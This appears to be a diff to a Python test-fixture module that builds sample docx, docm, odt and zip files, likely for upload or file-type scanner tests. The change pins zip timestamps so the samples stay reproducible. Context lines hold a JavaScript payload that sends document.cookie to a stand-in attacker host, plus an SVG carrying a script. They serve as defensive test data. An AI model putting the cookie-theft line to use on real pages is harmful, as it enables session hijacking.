@@ -16,9 +16,20 @@ JS = b"document.location='https://evil.example/?c='+document.cookie;"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
 
 
+# Zip entries carry a timestamp; a fixed one keeps every sample byte-identical between runs (and
+# between xdist workers, which must collect the same parametrised tests).
+_ZIP_TIME = (2020, 1, 1, 0, 0, 0)
+
+
+class _ZipFile(zipfile.ZipFile):
+    def writestr(self, name, data, *args, **kwargs):
+        info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, date_time=_ZIP_TIME)
+        return super().writestr(info, data, *args, **kwargs)
+
+
 def docx() -> bytes:
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with _ZipFile(buffer, "w") as archive:
         archive.writestr(
             "[Content_Types].xml",
             '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
@@ -32,7 +43,7 @@ def docx() -> bytes:
 def docm() -> bytes:
     """A Word document with macros: a zip, like docx, but another main part."""
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with _ZipFile(buffer, "w") as archive:
         archive.writestr(
             "[Content_Types].xml",
             '<Types><Override PartName="/word/document.xml" '
@@ -44,7 +55,7 @@ def docm() -> bytes:
 
 def odt() -> bytes:
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with _ZipFile(buffer, "w") as archive:
         archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
         archive.writestr("content.xml", "<office:document-content/>")
     return buffer.getvalue()
@@ -52,7 +63,7 @@ def odt() -> bytes:
 
 def plain_zip() -> bytes:
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with _ZipFile(buffer, "w") as archive:
         archive.writestr("index.html", HTML)
     return buffer.getvalue()
 
